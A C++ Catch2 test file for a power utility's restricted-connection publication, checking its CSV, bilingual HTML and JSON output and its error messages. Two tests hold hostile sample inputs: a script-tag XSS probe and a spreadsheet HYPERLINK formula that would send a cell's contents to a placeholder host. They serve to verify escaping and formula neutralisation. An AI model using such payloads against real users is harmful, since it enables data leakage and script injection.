#include <catch2/catch.hpp>

#include <chrono>

#include "domain/publication/publication.hpp"

using namespace gridcoord::domain;
using namespace gridcoord::domain::capacity;
using namespace std::chrono;

namespace {

publication two_entries() {
  publication p;
  p.number = 7;
  p.period = 2026y / November;
  p.restricted_month = 2026y / December;
  p.issued_at = gridcoord::domain::time_point{sys_days{2026y / December / 3} + 1h};
  p.issued_by = "schedule";
  p.as_of = 2026y / October;
  constrained_point a;
  a.point = "F-101";
  a.kind = equipment_kind::feeder;
  a.region = "蓝海新区";
  a.area = area_class::urban;
  a.available_kva = -120.5;
  a.binding = "MT-1";
  a.status = light::red;
  a.reason = "MT-1 is overloaded (112.5 %), \"heavy\" since 2026-08";
  a.relief = 2027y / March;
  a.cause = limit_cause::overloaded;
  a.cause_element = "MT-1";
  a.cause_kind = equipment_kind::main_transformer;
  constrained_point b;
  b.point = "DT-7";
  b.kind = equipment_kind::distribution_transformer;
  b.region = "North";
  b.area = area_class::rural;
  b.available_kva = 0;
  b.binding = "DT-7";
  b.status = light::red;
  b.reason = "available capacity 0 kVA is at or below the minimum 50 kVA";
  b.cause = limit_cause::no_headroom;
  b.cause_element = "DT-7";
  b.cause_kind = equipment_kind::distribution_transformer;
  p.entries = {a, b};
  p.sources = {{"load_statistics", 2026y / October, 2}, {"planning_projects", 2026y / September, 1}};
  return p;
}

page_settings lanhai() {
  page_settings s;
  s.zh_cn = {"蓝海供电公司 营销部", "客户服务热线 95598（工作日 8:30–17:30）；蓝海市海滨路 1 号营业厅"};
  s.en = {"Lanhai Power Supply Company, Marketing Department",
          "Customer service 95598 (working days 8:30–17:30); business hall, 1 Haibin Road, Lanhai"};
  s.zone = "Asia/Shanghai";
  return s;
}

bool has(const std::string& text, std::string_view part) { return text.find(part) != std::string::npos; }

constexpr std::string_view header =
    "region,point,kind,area_class,available_kva,binding,reason,expected_relief_month,as_of,cause,cause_element,"
    "cause_kind\r\n";

}  // namespace

TEST_CASE("the restricted list's CSV is RFC 4180 with a BOM and CRLF, byte for byte", "[publication]") {
  CHECK(render_csv(two_entries()) ==
        "\xEF\xBB\xBF" + std::string(header) +
        "蓝海新区,F-101,feeder,urban,-120.5,MT-1,\"MT-1 is overloaded (112.5 %), \"\"heavy\"\" since 2026-08\","
        "2027-03,2026-10,overloaded,MT-1,main_transformer\r\n"
        "North,DT-7,distribution_transformer,rural,0,DT-7,available capacity 0 kVA is at or below the minimum "
        "50 kVA,,2026-10,no_headroom,DT-7,distribution_transformer\r\n");
}

TEST_CASE("a reason with a line break is one quoted CSV field", "[publication]") {
  auto p = two_entries();
  p.entries.resize(1);
  p.entries[0].reason = "line one\r\nline two";
  p.as_of.reset();
  p.entries[0].cause = limit_cause::none;
  p.entries[0].cause_element.clear();
  CHECK(render_csv(p) == "\xEF\xBB\xBF" + std::string(header) +
                             "蓝海新区,F-101,feeder,urban,-120.5,MT-1,\"line one\r\nline two\",2027-03,,none,,\r\n");
}

TEST_CASE("an empty restricted list's CSV is the header alone", "[publication]") {
  auto p = two_entries();
  p.entries.clear();
  CHECK(render_csv(p) == "\xEF\xBB\xBF" + std::string(header));
}

TEST_CASE("the zh-CN page says in Chinese what the list is, who issues it and how to reach them", "[publication]") {
  auto page = render_html(two_entries(), lanhai(), language::zh_cn);
  CHECK(page.rfind("<!DOCTYPE html>\n<html lang=\"zh-CN\">\n<head>\n<meta charset=\"utf-8\">\n", 0) == 0);
  CHECK(has(page, "<title>新装、增容用电受限区域 — 2026年12月</title>"));
  CHECK(has(page, "<h1>新装、增容用电受限区域</h1>\n<p class=\"month\">适用月份：<strong>2026年12月</strong></p>"));
  CHECK(has(page, "已经在用的电不受影响。"));
  CHECK(has(page, "<dt>发布单位</dt><dd>蓝海供电公司 营销部</dd>"));
  CHECK(has(page, "<dt>联系方式</dt><dd>客户服务热线 95598（工作日 8:30–17:30）；蓝海市海滨路 1 号营业厅</dd>"));
  CHECK(has(page, "<dt>发布时间</dt><dd><time datetime=\"2026-12-03T01:00:00Z\">2026-12-03 09:00 (+08:00)</time></dd>"));
  CHECK(has(page, "<dt>负荷数据截至</dt><dd>2026年10月</dd>"));
  CHECK(has(page, "<dt>公示编号</dt><dd>第 7 期，替代此前各期</dd>"));
  CHECK(has(page, "<h2>如何办理</h2>"));
  CHECK(has(page, "<p class=\"contact\">联系方式：客户服务热线 95598"));
  CHECK(has(page, "<h2>名词解释</h2>"));
  CHECK(has(page, "<dt>可开放容量</dt>"));
  CHECK_FALSE(has(page, "UTC"));
  CHECK_FALSE(has(page, "overloaded"));  // the engineers' reason stays in the JSON and CSV
}

TEST_CASE("the zh-CN page gives each entry's reason, capacity and relief in plain words", "[publication]") {
  auto page = render_html(two_entries(), lanhai(), language::zh_cn);
  CHECK(has(page, "<tr><td data-label=\"区域\">蓝海新区</td><td data-label=\"接入点\">F-101</td>"
                  "<td data-label=\"类型\">馈线</td><td class=\"num\" data-label=\"可开放容量（千伏安）\">无（已超出 "
                  "120.5）</td><td data-label=\"受限原因\">主变 MT-1 当前已过载</td>"
                  "<td data-label=\"预计解除时间\">2027年3月</td></tr>"));
  CHECK(has(page, "<td data-label=\"类型\">配变</td><td class=\"num\" data-label=\"可开放容量（千伏安）\">0</td>"
                  "<td data-label=\"受限原因\">配变 DT-7 可开放容量不足</td>"
                  "<td data-label=\"预计解除时间\">暂无计划</td></tr>"));
  CHECK(has(page, "<footer>\n<p>计算依据：负荷统计 2026年10月（第 2 版）；planning_projects 2026年9月（第 1 版）。</p>"));
}

TEST_CASE("the en page is the same list in English, its time in the configured zone", "[publication]") {
  auto settings = lanhai();
  auto page = render_html(two_entries(), settings, language::en);
  CHECK(page.rfind("<!DOCTYPE html>\n<html lang=\"en\">\n", 0) == 0);
  CHECK(has(page, "<h1>Where new electricity connections are restricted</h1>"));
  CHECK(has(page, "<p class=\"month\">For <strong>December 2026</strong></p>"));
  CHECK(has(page, "<dt>Published by</dt><dd>Lanhai Power Supply Company, Marketing Department</dd>"));
  CHECK(has(page, "<dt>Contact</dt><dd>Customer service 95598 (working days 8:30–17:30); business hall, 1 Haibin "
                  "Road, Lanhai</dd>"));
  CHECK(has(page, "<time datetime=\"2026-12-03T01:00:00Z\">2026-12-03 09:00 (+08:00)</time>"));
  CHECK(has(page, "<dt>Load data as of</dt><dd>October 2026</dd>"));
  CHECK(has(page, "<td data-label=\"Type\">Feeder</td>"));
  CHECK(has(page, ">None (120.5 over)</td>"));
  CHECK(has(page, "<td data-label=\"Why it is restricted\">Main transformer MT-1 is overloaded now</td>"));
  CHECK(has(page, "<td data-label=\"Why it is restricted\">Distribution transformer DT-7 has no spare capacity "
                  "left</td><td data-label=\"Expected to ease\">Not yet planned</td>"));
  CHECK(has(page, "<td data-label=\"Expected to ease\">March 2027</td>"));
  CHECK(has(page, "<h2>What to do</h2>"));
  CHECK(has(page, "<h2>The terms used</h2>"));
  CHECK(has(page, "Computed from: load statistics, October 2026 (version 2); planning_projects, September 2026 "
                  "(version 1)."));
  CHECK_FALSE(has(page, "蓝海供电公司"));  // the other language's issuer

  settings.zone = "Europe/London";
  CHECK(has(render_html(two_entries(), settings, language::en), ">2026-12-03 01:00 (+00:00)</time>"));
}

TEST_CASE("a page is self-contained and turns its table into cards on a phone", "[publication]") {
  for (auto lang : {language::zh_cn, language::en}) {
    auto page = render_html(two_entries(), lanhai(), lang);
    CHECK(has(page, "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">"));
    CHECK(has(page, "@media screen and (max-width:600px){"));
    CHECK(has(page, "table,tbody,tr,td{display:block;width:100%}"));
    CHECK(has(page, "td::before{content:attr(data-label)"));
    CHECK(has(page, "@media print"));
    CHECK_FALSE(has(page, "<script"));
    CHECK_FALSE(has(page, "src="));
    CHECK_FALSE(has(page, "href="));
    CHECK_FALSE(has(page, "url("));
    CHECK(page.ends_with("</footer>\n</body>\n</html>\n"));
  }
}

TEST_CASE("the page escapes every text from the data and the settings", "[publication]") {
  auto p = two_entries();
  p.entries[0].region = "<b>蓝海</b>";
  p.entries[0].point = "F&1";
  p.entries[0].cause_element = "MT'1";
  p.entries[1].cause = limit_cause::none;  // as read from a publication issued before causes were recorded
  p.entries[1].reason = "<script>alert('x')</script> & \"more\"";
  auto settings = lanhai();
  settings.zh_cn = {"<i>issuer</i>", "\"95598\" & <a href=x>"};
  auto page = render_html(p, settings, language::zh_cn);
  CHECK_FALSE(has(page, "<script"));
  CHECK_FALSE(has(page, "<b>"));
  CHECK_FALSE(has(page, "<i>"));
  CHECK_FALSE(has(page, "<a "));
  CHECK(has(page, ">&lt;b&gt;蓝海&lt;/b&gt;</td>"));
  CHECK(has(page, ">F&amp;1</td>"));
  CHECK(has(page, ">主变 MT&#39;1 当前已过载</td>"));
  CHECK(has(page, ">&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; &quot;more&quot;</td>"));
  CHECK(has(page, "<dd>&lt;i&gt;issuer&lt;/i&gt;</dd>"));
  CHECK(has(page, "联系方式：&quot;95598&quot; &amp; &lt;a href=x&gt;</p>"));
}

TEST_CASE("an empty list's page says so instead of a table; no issuer or contact leaves their lines out",
          "[publication]") {
  auto p = two_entries();
  p.entries.clear();
  p.sources.clear();
  p.as_of.reset();
  page_settings bare;
  auto zh = render_html(p, bare, language::zh_cn);
  CHECK(has(zh, "<p class=\"empty\">2026年12月没有受限的接入点：各地都可以照常申请新装和增容用电。</p>"));
  CHECK_FALSE(has(zh, "<table>"));
  CHECK(has(zh, "<dt>负荷数据截至</dt><dd>尚无负荷统计</dd>"));
  CHECK_FALSE(has(zh, "<dt>发布单位</dt>"));
  CHECK_FALSE(has(zh, "<dt>联系方式</dt>"));
  CHECK(has(zh, "<p class=\"contact\">请到就近的供电营业厅咨询。</p>"));
  CHECK(has(zh, "<p>计算时尚无任何报表。</p>"));
  auto en = render_html(p, bare, language::en);
  CHECK(has(en, "<p class=\"empty\">No connection point is restricted in December 2026: new connections and more "
                "capacity can be applied for as usual everywhere.</p>"));
  CHECK(has(en, "<p>No report was used.</p>"));
}

TEST_CASE("the publication payload is exact JSON and reads back to the same publication", "[publication]") {
  auto p = two_entries();
  auto text = encode_publication(p);
  CHECK(text ==
        "{\"number\":7,\"period\":\"2026-11\",\"restricted_month\":\"2026-12\","
        "\"issued_at\":\"2026-12-03T01:00:00.000000Z\",\"issued_by\":\"schedule\",\"as_of\":\"2026-10\","
        "\"entries\":[{\"region\":\"蓝海新区\",\"point\":\"F-101\",\"kind\":\"feeder\",\"area_class\":\"urban\","
        "\"available_kva\":-120.5,\"binding\":\"MT-1\",\"reason\":\"MT-1 is overloaded (112.5 %), \\\"heavy\\\" "
        "since 2026-08\",\"expected_relief_month\":\"2027-03\",\"cause\":\"overloaded\",\"cause_element\":\"MT-1\","
        "\"cause_kind\":\"main_transformer\"},{\"region\":\"North\",\"point\":\"DT-7\","
        "\"kind\":\"distribution_transformer\",\"area_class\":\"rural\",\"available_kva\":0,\"binding\":\"DT-7\","
        "\"reason\":\"available capacity 0 kVA is at or below the minimum 50 kVA\",\"expected_relief_month\":null,"
        "\"cause\":\"no_headroom\",\"cause_element\":\"DT-7\",\"cause_kind\":\"distribution_transformer\"}],"
        "\"sources\":[{\"kind\":\"load_statistics\",\"month\":\"2026-10\",\"version\":2},"
        "{\"kind\":\"planning_projects\",\"month\":\"2026-09\",\"version\":1}]}");
  auto back = decode_publication(text);
  REQUIRE(back);
  CHECK(*back == p);
}

TEST_CASE("a publication without as_of, entries or sources reads back too", "[publication]") {
  publication p;
  p.number = 1;
  p.period = 2026y / January;
  p.restricted_month = 2026y / February;
  p.issued_at = gridcoord::domain::time_point{sys_days{2026y / February / 4} + 1h + 30min + 250us};
  p.issued_by = "marketing-lead";
  p.entries.push_back({"F-9", equipment_kind::feeder, "East", area_class::remote, 1250.25, "F-9", light::red,
                       "overloaded", std::nullopt});
  auto text = encode_publication(p);
  CHECK(text.find("\"as_of\":null") != std::string::npos);
  CHECK(text.find("\"available_kva\":1250.25") != std::string::npos);
  CHECK(text.find("\"cause\":\"none\",\"cause_element\":null,\"cause_kind\":null") != std::string::npos);
  auto back = decode_publication(text);
  REQUIRE(back);
  CHECK(*back == p);
}

TEST_CASE("a payload written before causes were recorded reads with cause none, and its page shows the reason",
          "[publication]") {
  auto old = R"json({"number":3,"period":"2026-10","restricted_month":"2026-11","issued_at":"2026-11-04T01:00:00.000000Z",
    "issued_by":"schedule","as_of":"2026-09","entries":[{"region":"North","point":"F-9","kind":"feeder",
    "area_class":"rural","available_kva":-5,"binding":"F-9","reason":"F-9 was overloaded in 2026-09 (M4)",
    "expected_relief_month":null}],"sources":[]})json";
  auto p = decode_publication(old);
  REQUIRE(p);
  REQUIRE(p->entries.size() == 1);
  CHECK(p->entries[0].cause == limit_cause::none);
  CHECK(p->entries[0].cause_element.empty());
  CHECK(has(render_html(*p, lanhai(), language::zh_cn), "<td data-label=\"受限原因\">F-9 was overloaded in 2026-09 (M4)</td>"));
}

TEST_CASE("a damaged publication payload is an internal error naming what is wrong", "[publication]") {
  auto text = encode_publication(two_entries());
  auto truncated = decode_publication(std::string_view(text).substr(0, text.size() / 2));
  REQUIRE_FALSE(truncated);
  CHECK(truncated.error().code == errc::internal);
  CHECK(truncated.error().message == "a stored publication is unreadable: not JSON");

  auto bad_month = text;
  bad_month.replace(bad_month.find("\"2027-03\""), 9, "\"2027-13\"");
  auto month_error = decode_publication(bad_month);
  REQUIRE_FALSE(month_error);
  CHECK(month_error.error().code == errc::internal);
  CHECK(month_error.error().message ==
        "a stored publication is unreadable: entries[0].expected_relief_month is not a month \"YYYY-MM\" or null");

  auto no_number = text;
  no_number.replace(no_number.find("\"number\""), 8, "\"numbre\"");
  auto missing = decode_publication(no_number);
  REQUIRE_FALSE(missing);
  CHECK(missing.error().message == "a stored publication is unreadable: publication has no \"number\"");

  auto bad_kind = text;
  bad_kind.replace(bad_kind.find("\"feeder\""), 8, "\"fedeer\"");
  auto kind_error = decode_publication(bad_kind);
  REQUIRE_FALSE(kind_error);
  CHECK(kind_error.error().message == "a stored publication is unreadable: entries[0].kind is not an equipment kind");

  auto bad_cause = text;
  bad_cause.replace(bad_cause.find("\"overloaded\""), 12, "\"overheated\"");
  auto cause_error = decode_publication(bad_cause);
  REQUIRE_FALSE(cause_error);
  CHECK(cause_error.error().message == "a stored publication is unreadable: entries[0].cause is not a cause");

  auto no_element = text;
  no_element.replace(no_element.find("\"cause_element\""), 15, "\"cause_elemen\"");
  auto element_error = decode_publication(no_element);
  REQUIRE_FALSE(element_error);
  CHECK(element_error.error().message == "a stored publication is unreadable: entries[0] has no \"cause_element\"");

  CHECK_FALSE(decode_publication("[1,2]"));
}

TEST_CASE("a text cell a spreadsheet would run as a formula is written as text after an apostrophe",
          "[publication][csv]") {
  auto p = two_entries();
  p.entries.resize(1);
  p.as_of.reset();
  p.entries[0].cause = limit_cause::none;
  p.entries[0].cause_element.clear();
  p.entries[0].region = "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")";
  p.entries[0].point = "+F-101";
  p.entries[0].binding = "@SUM(A1:A9)";
  p.entries[0].reason = "-2+3";
  CHECK(render_csv(p) == "\xEF\xBB\xBF" + std::string(header) +
                             "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\",\"'+F-101\",feeder,urban,-120.5,"
                             "\"'@SUM(A1:A9)\",\"'-2+3\",2027-03,,none,,\r\n");
  p.entries[0].region = "\tNorth";
  CHECK(render_csv(p).find("\"'\tNorth\"") != std::string::npos);
  p.entries[0].region = "North-East = 2";  // only a leading sign is a formula
  CHECK(render_csv(p).find(",North-East = 2,") == std::string::npos);
  CHECK(render_csv(p).find("\xEF\xBB\xBF" + std::string(header) + "North-East = 2,") == 0);
}
